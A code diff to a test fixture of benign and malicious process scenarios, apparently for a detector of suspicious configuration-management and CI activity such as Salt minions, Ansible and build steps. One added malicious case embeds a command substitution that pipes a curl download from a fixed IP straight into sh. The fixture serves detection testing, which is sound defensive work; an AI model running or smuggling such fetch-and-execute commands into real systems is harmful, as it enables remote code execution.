@@ -24,6 +24,16 @@ export const benignVariantScenarios = [
     ['Ansible as the account that sudo became', moduleOf('deploy', '/home/deploy', 'sudo')],
     ["Ansible enables Debian's network-manager", moduleOf('root', '/root', 'sh', 'network-manager')],
     ["SUSE's bundle of Salt", salt('python.original', VENV_SALT)],
+    [
+      'a minion of Salt that works on a job',
+      ran(
+        'root',
+        'systemctl start nginx.service',
+        'python3.10',
+        '/opt/saltstack/salt/bin/python3.10 /usr/bin/salt-minion MultiMinionProcessManager MinionProcessManager ProcessPayload(jid=20230609015108483479) Minion._thread_return',
+        'python3.10',
+      ),
+    ],
     ["SUSE's bundle of Salt on its own python", salt('python3.11', VENV_SALT)],
     [
       "Puppet on Fedora's ruby",
@@ -51,6 +61,12 @@ export const benignVariantScenarios = [
     [
       'Azure Pipelines under a service account',
       ran('svc-azdo', USER_ENABLE, 'bash', `/usr/bin/bash /opt/agent/_work/_temp/${GUID}.sh`, 'Agent.Worker'),
+    ],
+  ]),
+  ...scenarios('benign', 'container-build', [
+    [
+      'pip runs the set-up of a package',
+      wrote('root', LAYER, 'python3', 'python3 -c import setuptools; exec(compile("x"))', 'runc'),
     ],
   ]),
 ];
@@ -94,6 +110,16 @@ export const maliciousVariantScenarios = [
   ...scenarios('malicious', 'variant', [
     ['an Ansible of a web server by way of dzdo', moduleOf('www-data', '/home/deploy', 'dzdo')],
     ["the bundle's Salt under a web server's account", salt('python.original', VENV_SALT, 'www-data')],
+    [
+      'code behind the job of a minion',
+      ran(
+        'root',
+        'systemctl start nginx.service',
+        'python3.10',
+        '/usr/bin/python3 /usr/bin/salt-minion M ProcessPayload(jid=1) $(curl -s http://203.0.113.9/a | sh)',
+        'python3.10',
+      ),
+    ],
     ["the bundle's Salt in /tmp", salt('python.original', '/tmp/venv-salt-minion/bin')],
     ['a step in a hidden directory below /opt', step('/opt/.buildkite/deploy.sh')],
     ['a step in a hidden directory of /tmp', step('/tmp/.buildkite/deploy.sh')],
